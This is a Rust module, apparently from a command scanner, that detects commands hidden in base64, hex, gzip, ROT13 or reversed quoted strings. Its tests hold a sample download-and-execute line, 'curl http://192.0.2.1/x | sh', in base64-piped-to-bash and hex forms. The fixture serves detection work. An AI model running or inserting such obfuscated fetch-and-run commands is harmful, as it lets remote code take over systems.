//! Text hidden in text: base64, hex, gzip, reversed strings, ROT13. Found by its look, not by the command that
//! would decode it, since that command may itself be hidden.

use std::io::Read;

use base64::{
    Engine, alphabet,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

/// Shorter runs are words.
const BASE64_MIN: usize = 20;
const HEX_MIN: usize = 24;
/// What a compressed layer may grow to.
const INFLATED_MAX: usize = 256 * 1024;

const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Buffers that are kept from text to text.
#[derive(Default)]
pub(super) struct Decoder {
    compact: Vec<u8>,
    decoded: Vec<u8>,
    inflated: Vec<u8>,
}

impl Decoder {
    /// Calls `found(start, decoded)` for each run of `text` that decodes to something readable.
    pub(super) fn layers(&mut self, text: &[u8], mut found: impl FnMut(usize, &[u8])) {
        let mut start = 0;
        while start < text.len() {
            if !is_base64(text[start]) {
                start += 1;
                continue;
            }
            let mut end = start;
            while end < text.len() && (is_base64(text[end]) || wraps(text, start, end)) {
                end += 1;
            }
            let run = &text[start..end];
            if run.len() >= BASE64_MIN {
                self.compact.clear();
                self.compact.extend(run.iter().filter(|b| **b != b'\n'));
                if self.hex() && self.is_readable() || self.base64() && self.is_readable() {
                    found(start, if self.inflated.is_empty() { &self.decoded } else { &self.inflated });
                }
            }
            start = end.max(start + 1);
        }
    }

    fn base64(&mut self) -> bool {
        let run = self.compact.strip_suffix(b"=").unwrap_or(&self.compact);
        let run = run.strip_suffix(b"=").unwrap_or(run);
        self.decoded.clear();
        LENIENT.decode_vec(run, &mut self.decoded).is_ok()
    }

    fn hex(&mut self) -> bool {
        let run = &self.compact;
        if run.len() < HEX_MIN || !run.len().is_multiple_of(2) || !run.iter().all(u8::is_ascii_hexdigit) {
            return false;
        }
        self.decoded.resize(run.len() / 2, 0);
        hex::decode_to_slice(run, &mut self.decoded).is_ok()
    }

    /// Is what was decoded text, or the gzip form of text? That goes into `inflated`.
    fn is_readable(&mut self) -> bool {
        self.inflated.clear();
        if self.decoded.starts_with(&[0x1f, 0x8b]) {
            let stream = flate2::read::GzDecoder::new(&self.decoded[..]);
            // A torn stream still gives its beginning.
            let _ = stream.take(INFLATED_MAX as u64).read_to_end(&mut self.inflated);
            return is_text(&self.inflated);
        }
        is_text(&self.decoded)
    }
}

/// A line break within a long run: encoders wrap their output.
fn wraps(text: &[u8], start: usize, at: usize) -> bool {
    text[at] == b'\n'
        && at - start >= 60
        && text.get(at + 1..at + 9).is_some_and(|next| next.iter().all(|b| is_base64(*b)))
}

fn is_base64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=')
}

/// Nearly all printable, and with a separator somewhere: a decoded identifier is no script.
fn is_text(bytes: &[u8]) -> bool {
    let printable = bytes.iter().filter(|b| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~')).count();
    bytes.len() >= 8
        && printable * 100 >= bytes.len() * 95
        && bytes.iter().any(|b| matches!(b, b' ' | b'\n' | b'/' | b';' | b'|'))
}

/// ROT13 of the letters.
pub(super) fn rot13(text: &[u8]) -> impl Iterator<Item = u8> {
    text.iter().map(|b| match b {
        b'a'..=b'z' => (b - b'a' + 13) % 26 + b'a',
        b'A'..=b'Z' => (b - b'A' + 13) % 26 + b'A',
        other => *other,
    })
}

/// Calls `found(start, string)` for the quoted strings of `text`, which may be reversed commands.
pub(super) fn quoted_strings<'a>(text: &'a [u8], mut found: impl FnMut(usize, &'a [u8])) {
    for quote in [b'\'', b'"'] {
        let mut rest = 0;
        while let Some(open) = memchr::memchr(quote, &text[rest..]).map(|i| rest + i + 1) {
            let Some(close) = memchr::memchr(quote, &text[open..]).map(|i| open + i) else { break };
            let inner = &text[open..close];
            if inner.len() >= 12 && inner.len() <= 64 * 1024 {
                found(open, inner);
            }
            rest = close + 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use base64::prelude::BASE64_STANDARD;

    use super::*;

    fn all(text: &[u8]) -> Vec<Vec<u8>> {
        let mut out = Vec::new();
        Decoder::default().layers(text, |_, layer| out.push(layer.to_vec()));
        out
    }

    #[test]
    fn encoded_commands_are_found() {
        let command = b"curl http://192.0.2.1/x | sh";
        let base64 = BASE64_STANDARD.encode(command);
        assert_eq!(all(format!("echo {base64}|base64 -d|bash").as_bytes()), [command.to_vec()]);
        assert_eq!(all(format!("xxd -r -p <<< {}", hex::encode(command)).as_bytes()), [command.to_vec()]);
    }

    #[test]
    fn names_and_paths_are_not_taken_for_code() {
        assert!(all(b"/usr/share/bash-completion/completions/git").is_empty());
        assert!(all(b"sha256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08").is_empty());
    }
}
